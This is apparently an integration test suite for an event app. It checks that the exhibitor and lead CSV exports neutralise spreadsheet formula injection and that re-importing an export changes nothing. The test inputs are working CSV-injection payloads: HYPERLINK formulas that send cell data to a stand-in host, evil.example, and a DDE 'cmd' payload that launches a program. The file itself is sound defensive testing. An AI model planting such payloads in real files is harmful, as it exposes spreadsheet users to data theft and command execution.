import { parse } from 'csv-parse';
import { TestApp, startTestApp } from './support/test-app';
import { LoggedIn, makeExhibitor, makeLiveEdition, makeUser } from './support/factories';
import { eventually } from './support/processes';

/** What a spreadsheet reads as a formula (OWASP CSV injection): a cell starting with = + - @ tab or CR. */
const FORMULA = /^[=+\-@\t\r]/;

/** The file as a spreadsheet or any other program reads it: csv-parse, not our own reader. */
const readCsv = (text: string): Promise<string[][]> =>
  new Promise((resolve, reject) => parse(text, { bom: true }, (error, rows: string[][]) => (error ? reject(error) : resolve(rows))));

describe('CSV exports: spreadsheet formula injection', () => {
  let t: TestApp;
  let admin: LoggedIn;
  let editionId: string;

  beforeAll(async () => {
    t = await startTestApp({ worker: true });
    admin = await makeUser(t, 'admin');
    editionId = (await makeLiveEdition(t)).id;
  });
  afterAll(() => t.close());

  it('neutralises every formula cell of the exhibitors export, and importing the export back changes nothing', async () => {
    const hostile = {
      ref: '-42',
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      legalName: "'t Hooft & Zonen",
      city: '@Casablanca',
      description: '-1+1+HYPERLINK("http://evil.example/?x="&A1,"Click")',
      contactName: "'+already quoted",
      contactPhone: '+212612345678',
    };
    const exhibitor = await makeExhibitor(t, editionId, hostile);
    const plain = await makeExhibitor(t, editionId, { name: 'Atlas Relation Client', description: 'Relation client, 2 000 m²' });

    const exported = await t.http().get('/api/v1/exhibitors/export.csv').query({ editionId }).set(admin.auth).expect(200);
    const [header, ...rows] = await readCsv(exported.text);
    expect(rows).toHaveLength(2);
    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
    const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r.includes("'-42"))![i]]));
    expect(row).toMatchObject({
      ref: "'-42",
      name: `'${hostile.name}`,
      legal_name: "'t Hooft & Zonen",
      city: "'@Casablanca",
      description: `'${hostile.description}`,
      contact_name: "''+already quoted",
      contact_phone: "'+212612345678",
    });
    expect(rows.find((r) => r.includes('Atlas Relation Client'))).toContain('Relation client, 2 000 m²');

    const before = await t.dataSource.query(`SELECT id, updated_at FROM exhibitors WHERE edition_id = $1 ORDER BY id`, [editionId]);
    const accepted = await t.http().post('/api/v1/exhibitors/imports').set(admin.auth).field('editionId', editionId).attach('file', Buffer.from(exported.text), 'export.csv').expect(202);
    const report = await eventually(async () => {
      const res = await t.http().get(`/api/v1/exhibitors/imports/${accepted.body.id}`).set(admin.auth).expect(200);
      return ['completed', 'failed'].includes(res.body.status) ? res.body : undefined;
    }, 20000, 'the import');
    expect(report).toMatchObject({ status: 'completed', created: 0, updated: 0, unchanged: 2, rejected: 0, errors: [] });
    expect(await t.dataSource.query(`SELECT id, updated_at FROM exhibitors WHERE edition_id = $1 ORDER BY id`, [editionId])).toEqual(before);
    const back = await t.http().get(`/api/v1/exhibitors/${exhibitor.id}`).set(admin.auth).expect(200);
    expect(back.body).toMatchObject(hostile);
    expect((await t.http().get(`/api/v1/exhibitors/${plain.id}`).set(admin.auth).expect(200)).body.description).toBe('Relation client, 2 000 m²');
  });

  it('neutralises the names and notes of a lead in the leads export', async () => {
    const exhibitor = await makeExhibitor(t, editionId);
    const manager = await makeUser(t, 'exhibitor', { exhibitorId: exhibitor.id });
    const firstName = '+HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const lastName = "-2+3+cmd|' /C calc'!A0";
    await t
      .http()
      .post('/api/v1/registrations')
      .send({ editionId, firstName, lastName, email: 'evil@example.ma', phone: '+212 6 12 34 56 78', organisation: '@Evil', consentShareContact: true })
      .expect(202);
    // The badge code goes by mail; the back office reads it.
    const [registered] = (await t.http().get('/api/v1/attendees').query({ editionId, q: 'evil@example.ma' }).set(admin.auth).expect(200)).body.items;
    const { code } = (await t.http().get(`/api/v1/attendees/${registered.id}/credential`).set(admin.auth).expect(200)).body;
    await t.http().post('/api/v1/leads').set(manager.auth).send({ code, rating: 3, notes: '\t=1+1 call back' }).expect(201);

    const exported = await t.http().get('/api/v1/leads/export.csv').set(manager.auth).expect(200);
    const [header, ...rows] = await readCsv(exported.text);
    expect(rows).toHaveLength(1);
    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(Object.fromEntries(header.map((h, i) => [h, rows[0][i]]))).toMatchObject({
      first_name: `'${firstName}`,
      last_name: `'${lastName}`,
      organisation: "'@Evil",
      email: 'evil@example.ma',
      phone: "'+212612345678",
      rating: '3',
      notes: "'\t=1+1 call back",
    });
  });
});
